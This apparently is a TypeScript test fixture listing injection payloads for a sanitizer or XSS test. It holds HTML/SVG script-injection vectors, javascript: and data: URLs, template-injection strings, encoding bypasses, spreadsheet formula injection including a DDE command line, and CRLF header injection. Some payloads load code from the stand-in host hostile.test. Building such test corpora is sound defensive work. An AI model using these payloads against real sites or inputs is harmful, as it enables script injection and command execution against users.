// Shapes of texts that have made pages run injected code. Each one calls `ran()`, adds an element of the class `hx`, or
// sends a request to hostile.test: the test detects all three.

/** Elements, some of which run by themselves, and ways to break out of the surrounding context. */
const elements = [
  '<script class=hx>ran()</script>',
  '"><script class=hx>ran()</script>',
  "'><script class=hx>ran()</script>",
  '</title><script class=hx>ran()</script>',
  '</script><script class=hx>ran()</script>',
  '</textarea><script class=hx>ran()</script>',
  '</style><script class=hx>ran()</script>',
  '--><script class=hx>ran()</script>',
  ']]><script class=hx>ran()</script>',
  '<!--<script>',
  '<ScRiPt class=hx>ran()</sCrIpT>',
  '<scr<script>ipt class=hx>ran()</script>',
  '<script class=hx src=data:,ran()></script>',
  '<script class=hx src=//hostile.test/x.js></script>',
  '<img class=hx src=x onerror=ran()>',
  '"><img class=hx src=x onerror=ran()>',
  '<img class=hx src=//hostile.test/x>',
  '<svg class=hx onload=ran()>',
  '<svg><script class=hx>ran()</script></svg>',
  '<svg class=hx><animate onbegin=ran() attributeName=x dur=1s>',
  '<svg class=hx><a href="javascript:ran()"><text>x',
  '<math class=hx><mtext><table><mglyph><style><img src=x onerror=ran()>',
  '<details class=hx open ontoggle=ran()>',
  '<input class=hx autofocus onfocus=ran()>',
  '<select class=hx autofocus onfocus=ran()>',
  '<video class=hx><source onerror=ran()></video>',
  '<audio class=hx src=x onerror=ran()>',
  '<iframe class=hx srcdoc="<script>parent.ran()</script>">',
  '<iframe class=hx src="javascript:parent.ran()">',
  '<object class=hx data="javascript:ran()"></object>',
  '<embed class=hx src="javascript:ran()">',
  '<form class=hx action="javascript:ran()"><button>x',
  '<a class=hx href="javascript:ran()">x</a>',
  '<base class=hx href=//hostile.test/>',
  '<link class=hx rel=stylesheet href=//hostile.test/x>',
  '<style class=hx>@import"//hostile.test/x"</style>',
  '<meta class=hx http-equiv=refresh content="0;url=//hostile.test/">',
  '<b class=hx style="background:url(//hostile.test/x)">x</b>',
  '<p class=hx onmouseover=ran() onclick=ran()>x',
  '<noscript><p title="</noscript><img class=hx src=x onerror=ran()>">',
  '<xmp><p title="</xmp><svg class=hx onload=ran()>">',
  '<template><script class=hx>ran()</script></template>',
]

/** Attributes, for texts that end up inside one. */
const attributes = [
  '" autofocus onfocus=ran() class="hx',
  "' autofocus onfocus=ran() class='hx",
  '` autofocus onfocus=ran() class=`hx',
  'x onmouseover=ran() class=hx',
  'red;background:url(//hostile.test/x)',
]

/** URLs that run code in a link, an image or a frame. */
const addresses = [
  'javascript:ran()',
  'JaVaScRiPt:ran()',
  '  javascript:ran()',
  'javascript://x.test/%0aran()',
  'vbscript:ran()',
  'data:text/html,<script>parent.ran()</script>',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=',
  '//hostile.test/x',
  'https://x.test/" onclick="ran()',
]

/** What templates, messages and formats would evaluate or substitute. */
const templates = [
  '{{constructor.constructor("ran()")()}}',
  '${ran()}',
  '#{ran()}',
  '<%= ran() %>',
  '{name}',
  '{n, plural, other {#}}',
  '%s%n%d',
]

/** What becomes markup only if it is decoded once more than it was encoded. */
const entities = [
  '&lt;img class=hx src=x onerror=ran()&gt;',
  '&#60;script class=hx&#62;ran()&#60;/script&#62;',
  '%3Cscript%20class=hx%3Eran()%3C/script%3E',
  '\\u003cscript class=hx\\u003eran()\\u003c/script\\u003e',
  '\\x3cscript class=hx\\x3eran()\\x3c/script\\x3e',
  '+ADw-script+AD4-ran()+ADw-/script+AD4-',
  '＜script class=hx＞ran()＜/script＞',
  '\u202E<img class=hx src=x onerror=ran()>\u202C',
  '<img\u2028class=hx src=x onerror=ran()>',
  '\u2066"><svg class=hx onload=ran()>',
]

/** What a spreadsheet would execute. */
const formulas = [
  '=ran()',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("//hostile.test","x")',
  '@SUM(1+1)',
  '+1+1',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
]

/** Line breaks that end a command: in a mail header, a log, a file. */
const lines = ['x\r\nBcc: a@hostile.test', 'x\nran()', '\0<script class=hx>ran()</script>']

export const hostileTexts: readonly string[] = [
  ...elements,
  ...attributes,
  ...addresses,
  ...templates,
  ...entities,
  ...formulas,
  ...lines,
]
